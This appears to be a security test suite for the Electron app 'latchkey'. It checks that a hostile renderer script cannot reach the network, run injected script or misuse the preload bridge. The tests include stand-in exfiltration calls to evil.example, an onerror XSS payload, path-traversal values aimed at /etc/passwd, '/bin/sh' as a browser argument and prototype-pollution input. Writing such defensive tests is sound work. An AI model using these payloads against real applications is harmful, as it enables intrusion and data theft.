/** A window whose script is hostile, as a poisoned dependency would be: it has the preload's functions and gets nothing by them. */
import type { Page } from 'playwright-core'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { channelKinds } from '../../core/contract/channel-kinds.ts'
// Says what the preload puts into the page.
import type {} from '../../renderer/bridge.ts'
import { type AppUnderTest, launchApp } from './driver.ts'

const CONFIG = 'oidc:\n  issuer: http://127.0.0.1:9/realms/acme\n  client_id: latchkey\n'

let app: AppUnderTest
let page: Page
beforeEach(async () => {
  app = await launchApp({ config: CONFIG })
  page = await app.window()
})
afterEach(() => app.stop())

/** Whatever comes back, as text; a refusal or a throw as what it says. */
function call(channel: string, input: unknown): Promise<string> {
  const message: { readonly channel: string; readonly input: unknown } = { channel, input }
  return page.evaluate(async ({ channel, input }) => {
    try {
      return JSON.stringify(await Reflect.get(window.latchkey, channel)(input))
    } catch (error) {
      return `threw ${String(error)}`
    }
  }, message)
}

describe('the page', () => {
  test('has the functions of the contract, and nothing of Node.js or Electron', async () => {
    const seen = await page.evaluate(() => ({
      bridge: Object.keys(window.latchkey),
      globals: ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron', '__dirname'].filter(
        (name) => name in window,
      ),
      listener: String(Reflect.get(window.latchkey, 'session.changed')(() => {})),
    }))
    expect(seen.bridge.sort()).toEqual(Object.keys(channelKinds).sort())
    expect(seen.globals).toEqual([])
    expect(seen.listener).not.toContain('ipcRenderer')
  })

  test('cannot replace a function of the bridge', async () => {
    const replaced = await page.evaluate(() => {
      const before = window.latchkey['session.snapshot']
      try {
        Reflect.set(window.latchkey, 'session.snapshot', () => 'forged')
        Reflect.set(window, 'latchkey', {})
      } catch {}
      return window.latchkey['session.snapshot'] !== before
    })
    expect(replaced).toBe(false)
  })

  test('reaches no network, no other page and no new window', async () => {
    const outcome = await page.evaluate(async () => {
      const fetched = await fetch('https://evil.example/?steal').then(
        () => 'answered',
        () => 'refused',
      )
      window.open('https://evil.example/')
      const image = new Image()
      const loaded = await new Promise<string>((resolve) => {
        image.onload = () => resolve('loaded')
        image.onerror = () => resolve('refused')
        image.src = 'https://evil.example/pixel.png'
      })
      return { fetched, loaded }
    })
    expect(outcome).toEqual({ fetched: 'refused', loaded: 'refused' })
    await page.evaluate(() => {
      window.location.href = 'https://evil.example/'
    })
    const { windows, openedLinks } = await app.state()
    expect(windows.map(({ url }) => url)).toEqual(['app://ui/index.html'])
    expect(openedLinks).toEqual([])
  })

  test('runs no text as script, in whatever way it is put there', async () => {
    // In a timer: what a debugger evaluates itself is exempt from the policy.
    const ran = await page.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          const ways = [
            () => new Function('return 1')(),
            () => window.setTimeout('window.hacked = true'),
            () => {
              document.body.innerHTML = '<img src=x onerror="window.hacked = true">'
            },
          ]
          const outcome = (way: () => unknown) => {
            try {
              way()
              return 'ran'
            } catch {
              return 'refused'
            }
          }
          window.setTimeout(() => resolve(ways.map(outcome)), 0)
        }),
    )
    expect(ran).toEqual(['refused', 'refused', 'refused'])
  })
})

describe('the bridge', () => {
  test.each([
    ['help.open', { topic: 'https://evil.example/' }],
    ['help.open', { topic: 'help', url: 'file:///etc/passwd' }],
    ['session.openLink', { browser: null, url: 'https://evil.example/' }],
    ['session.openLink', { browser: '/bin/sh' }],
    ['device.copy', { what: 'refreshToken' }],
    ['profiles.switch', { id: '../../etc/passwd' }],
    ['profiles.remove', { id: '..' }],
    ['settings.change', { key: 'browser', value: 'x'.repeat(201) }],
    ['settings.change', { key: '__proto__', value: true }],
    ['session.signIn', { method: 'browser', anotherAccount: false, openBrowser: 'https://evil.example/' }],
    ['bundle.save', { path: '/etc/passwd' }],
    ['licences.read', '/etc/passwd'],
    ['logs.show', '/'],
  ])('%s with %j opens, reads and changes nothing', async (channel, input) => {
    const answer = await call(channel, input)
    expect(answer).not.toContain('root:')
    const state = await app.state()
    expect(state.openedLinks).toEqual([])
    expect(state.openedPaths).toEqual([])
    expect(state.dialogs).toEqual([])
    if (!(channel === 'session.openLink' && JSON.stringify(input).includes('/bin/sh'))) {
      expect(answer).toMatch(/"ok":false|threw/)
    }
  })

  test('tells no token, no code and no whole link, whatever is asked', async () => {
    // What asks the person first is not among them.
    const asked = Object.entries(channelKinds).filter(([name, kind]) => kind === 'call' && name !== 'bundle.save')
    const answers = await Promise.all(asked.map(([name]) => call(name, undefined)))
    expect(answers.join('\n')).not.toMatch(/refresh_token|id_token|access_token|code_verifier|[?&](state|nonce|code)=/)
  })
})

test('a frame of another origin, or inside the page, gets no bridge', async () => {
  const seen = await page.evaluate(async () => {
    const made = ['https://evil.example/', 'about:blank', 'app://ui/index.html'].map((src) => {
      const frame = document.createElement('iframe')
      frame.src = src
      document.body.append(frame)
      return frame
    })
    await new Promise((resolve) => setTimeout(resolve, 300))
    return made.map((frame) => {
      try {
        return frame.contentWindow !== null && 'latchkey' in frame.contentWindow
      } catch {
        return false
      }
    })
  })
  expect(seen).toEqual([false, false, false])
})
